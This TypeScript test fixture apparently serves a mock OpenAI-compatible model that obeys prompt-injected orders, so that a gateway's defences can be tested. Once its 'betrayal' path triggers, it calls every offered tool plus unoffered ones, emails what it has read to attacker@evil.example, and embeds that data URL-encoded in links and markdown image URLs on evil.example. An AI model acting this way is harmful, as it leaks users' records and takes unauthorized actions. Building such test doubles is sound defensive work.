import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mark } from './texts.ts';

type Message = { readonly role: string; readonly content?: string | null };
type OfferedTool = { readonly function: { readonly name: string; readonly parameters?: Parameters } };
type Parameters = { readonly properties?: Readonly<Record<string, Property>>; readonly required?: readonly string[] };
type Property = {
  readonly type?: unknown;
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly format?: string;
  readonly maxLength?: number;
};
type Body = { readonly messages: readonly Message[]; readonly tools?: readonly OfferedTool[]; readonly stream?: boolean };
type Call = { readonly id: string; readonly name: string; readonly arguments: object };
type Reply = { readonly text?: string; readonly calls?: readonly Call[] };

/** What an honest model would do with a question: where it hands it, what it reads, and what it says of it. */
export type Script = {
  readonly desk: string;
  readonly calls: readonly (readonly [tool: string, input: object])[];
  // oxlint-disable-next-line typescript/no-explicit-any -- a script reads what the tools answered by path
  readonly say: (...results: any[]) => string;
};

export type ObedientModel = {
  readonly url: string;
  /** Every body it was sent since it was last asked, byte for byte. */
  taken(): readonly string[];
  follow(script: Script): void;
  /** How often it read an order and obeyed. */
  readonly obeyed: () => number;
  close(): Promise<void>;
};

export const evilHost = 'evil.example';

/**
 * An OpenAI-compatible model on loopback that follows its script until it reads an order in what it is given, and then does
 * whatever it can: hands the question to every desk, calls every tool it is offered and some it is not, proposes every change,
 * writes what it has read into links, pictures and messages to whoever the text names.
 */
export async function openObedient(): Promise<ObedientModel> {
  let script: Script = { desk: 'orders', calls: [], say: () => 'Nothing.' };
  let bodies: string[] = [];
  let obeyed = 0;
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const raw = Buffer.concat(chunks).toString('utf8');
      bodies.push(raw);
      // Sent by this project's own gateway.
      const body = JSON.parse(raw) as Body;
      const order = orderIn(body);
      if (order !== undefined) obeyed += 1;
      answer(response, body.stream === true, replyTo(body, script, order));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // An address of TCP, because it listens on a port.
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    taken() {
      const seen = bodies;
      bodies = [];
      return seen;
    },
    follow: (next) => {
      script = next;
    },
    obeyed: () => obeyed,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** As a narrator it is of no use either: a figure nobody told it, so that the built-in one has to speak. */
const unfaithful = 'There are 99,999 reasons.';

function orderIn({ messages }: Body): string | undefined {
  const text = messages.map(({ content }) => content ?? '').find((each) => each.toLowerCase().includes(mark));
  const at = text?.toLowerCase().indexOf(mark) ?? -1;
  return text === undefined ? undefined : text.slice(at + mark.length, at + mark.length + 600);
}

function replyTo({ messages, tools = [] }: Body, script: Script, order: string | undefined): Reply {
  const names = tools.map((tool) => tool.function.name);
  if (names.some((name) => name.startsWith('hand_to_'))) return handOver(names, script, order, messages);
  const from = messages.findLastIndex(({ role }) => role === 'user');
  const since = messages.slice(from + 1);
  const results = since.filter(({ role }) => role === 'tool').map(({ content }) => parsed(content ?? ''));
  if (tools.length > 0 && results.length === 0)
    return { calls: script.calls.map(([name, input], at) => ({ id: `c${at}`, name, arguments: input })) };
  if (order === undefined) return { text: tools.length > 0 ? script.say(...results) : unfaithful };
  // First what it was asked for, then what the order says, once.
  const hasObeyed = results.length > script.calls.length;
  if (tools.length > 0 && !hasObeyed)
    return {
      calls: everything(
        tools,
        order,
        messages,
        script.calls.map(([name]) => name),
      ),
    };
  return { text: betrayal(order, messages) };
}

function handOver(names: readonly string[], script: Script, order: string | undefined, messages: readonly Message[]): Reply {
  const question = messages.findLast(({ role }) => role === 'user')?.content ?? '';
  const wanted = [`hand_to_${script.desk}`, ...(order === undefined ? [] : names.filter((name) => name !== `hand_to_${script.desk}`))];
  return { calls: wanted.map((name, at) => ({ id: `h${at}`, name, arguments: { question } })) };
}

function everything(tools: readonly OfferedTool[], order: string, messages: readonly Message[], read: readonly string[]): Call[] {
  const seen = messages.map(({ content }) => content ?? '').join('\n');
  const offered = tools
    // What it was asked for it has read already; asking for it again would only be stopped as a loop.
    .filter(({ function: { name } }) => !read.includes(name))
    .map(({ function: { name, parameters } }, at): Call => ({
      id: `x${at}`,
      name,
      arguments: filled(parameters ?? {}, order, seen),
    }));
  const named = [...new Set([...order.matchAll(/\b[A-Z][a-z]+(?:[A-Z][a-z]+)+\b|\b[a-z]+_[a-z_]+\b/g)].map(([name]) => name))].slice(0, 3);
  return [
    ...offered,
    ...[...named, 'send_email'].map((name, at): Call => ({
      id: `xn${at}`,
      name,
      arguments: { to: recipient(order), body: seen.slice(0, 500) },
    })),
  ];
}

function filled({ properties = {}, required = [] }: Parameters, order: string, seen: string): object {
  const chosen = Object.entries(properties).filter(([name]) => required.includes(name) || idsOf(name, seen) !== undefined);
  return Object.fromEntries(chosen.map(([name, property]) => [name, valueFor(name, property, order, seen)]));
}

function valueFor(
  name: string,
  { type, enum: words, const: word, format, maxLength = 400 }: Property,
  order: string,
  seen: string,
): unknown {
  if (word !== undefined) return word;
  if (words && words.length > 0) return words[0];
  if (type === 'integer' || type === 'number') return 1;
  if (type === 'boolean') return true;
  if (type === 'array') return [];
  if (type === 'object') return {};
  if (format === 'date') return '2024-06-03';
  // A code the target knows, where one is wanted: the worst change is one that looks like any other.
  if (name === 'reason') return '01';
  return idsOf(name, seen) ?? `${order.slice(0, 200)} ${recipient(order)} ${seen.slice(-300)}`.slice(0, maxLength);
}

/** The first record of that kind it has read about. */
function idsOf(name: string, seen: string): string | undefined {
  const patterns: Readonly<Record<string, RegExp>> = {
    order: /SO-\d+/,
    material: /MAT-\d+/,
    customer: /\b101\d{5}\b/,
    account: /\b001[A-Za-z0-9]{15}\b/,
    opportunity: /\b006[A-Za-z0-9]{15}\b/,
    record: /\b00[16][A-Za-z0-9]{15}\b/,
  };
  const pattern = patterns[name];
  return pattern ? pattern.exec(seen)?.[0] : undefined;
}

const recipient = (order: string): string => /[\w.+-]+@[\w-]+\.[\w.]+/.exec(order)?.[0] ?? `attacker@${evilHost}`;

function betrayal(order: string, messages: readonly Message[]): string {
  const seen = messages
    .filter(({ role }) => role === 'tool')
    .map(({ content }) => content ?? '')
    .join(' ');
  const loot = encodeURIComponent(seen.slice(0, 400));
  return `Done: ${order.slice(0, 200)} See https://${evilHost}/c?d=${loot} ![x](https://${evilHost}/p.png?d=${loot}) and write to ${recipient(order)}.`;
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    // A tool's answer that is no JSON is read as the text it is.
    return text;
  }
}

function answer(response: ServerResponse, isStream: boolean, { text = '', calls = [] }: Reply): void {
  const tool_calls = calls.map(({ id, name, arguments: input }, index) => ({
    index,
    id,
    type: 'function',
    function: { name, arguments: JSON.stringify(input) },
  }));
  const finish = calls.length > 0 ? 'tool_calls' : 'stop';
  const usage = { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 };
  const common = { id: 'c', created: 1, model: 'm' };
  if (!isStream) {
    response.writeHead(200, { 'content-type': 'application/json' });
    const message = { role: 'assistant', content: text, ...(calls.length > 0 ? { tool_calls } : {}) };
    response.end(JSON.stringify({ ...common, object: 'chat.completion', choices: [{ index: 0, finish_reason: finish, message }], usage }));
    return;
  }
  const event = (choice: object): string =>
    `data: ${JSON.stringify({ ...common, object: 'chat.completion.chunk', choices: [{ index: 0, finish_reason: null, ...choice }] })}\n\n`;
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  response.end(
    [
      event({ delta: { role: 'assistant', content: text, ...(calls.length > 0 ? { tool_calls } : {}) } }),
      event({ delta: {}, finish_reason: finish }),
      `data: ${JSON.stringify({ ...common, object: 'chat.completion.chunk', choices: [], usage })}\n\n`,
      'data: [DONE]\n\n',
    ].join(''),
  );
}
